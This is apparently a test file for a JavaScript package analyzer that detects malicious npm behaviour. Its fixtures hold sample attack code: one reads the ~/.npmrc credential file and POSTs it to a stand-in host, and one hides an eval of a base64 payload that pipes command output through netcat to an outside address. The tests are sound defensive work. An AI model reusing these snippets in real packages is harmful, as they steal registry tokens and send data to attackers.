import { describe, expect, it } from 'vitest';
import { interpretPackage, loadTaintModels, renderFrame } from '../../../src/analyze/javascript/index.js';

const models = loadTaintModels('rules/taint');
const run = (files: Record<string, string>, phase: 'install' | 'import' = 'import') =>
  interpretPackage(
    {
      files: new Map(Object.entries(files)),
      manifest: { name: 'sample', version: '1.0.0' },
      entries: [{ phase, file: 'index.js', via: 'main' }],
    },
    models,
  );

describe('interpretPackage', () => {
  it('follows a secret file through files of the package to a request', () => {
    const result = run({
      'index.js':
        "const read = require('./read'); require('https').request({hostname: 'c.example', method: 'POST'}).end(read('.npmrc'));",
      'read.js':
        "const os = require('os'); module.exports = (name) => require('fs').readFileSync(require('path').join(os.homedir(), name), 'utf8');",
    });
    const sent = result.observations.find(
      (each) => each.sink === 'net.out' && each.taints.some((taint) => taint.source === 'secret.file'),
    );
    expect(sent).toMatchObject({ target: 'c.example', unasked: true, file: 'index.js', line: 1 });
    expect(sent?.taints[0]?.detail).toBe('~/.npmrc');
    expect(sent?.steps.map((step) => step.role)).toEqual(expect.arrayContaining(['source', 'sink']));
    expect([...result.reached.keys()]).toEqual(['index.js', 'read.js']);
  });

  it('interprets decoded code as code', () => {
    const code = Buffer.from("require('child_process').exec('id | nc 192.0.2.7 9')").toString('base64');
    const result = run({ 'index.js': `eval(Buffer.from('${code}', 'base64').toString())` });
    const spawned = result.observations.find((each) => each.sink === 'process.spawn');
    expect(spawned?.target).toBe('id | nc 192.0.2.7 9');
    const frame = renderFrame(spawned?.steps ?? [], (file) => result.virtual.get(file) ?? null);
    expect(frame).toContain("require('child_process').exec");
  });

  it('says nothing of a clean file', () => {
    expect(run({ 'index.js': 'module.exports = (a, b) => a + b;' }).observations).toEqual([]);
  });
});
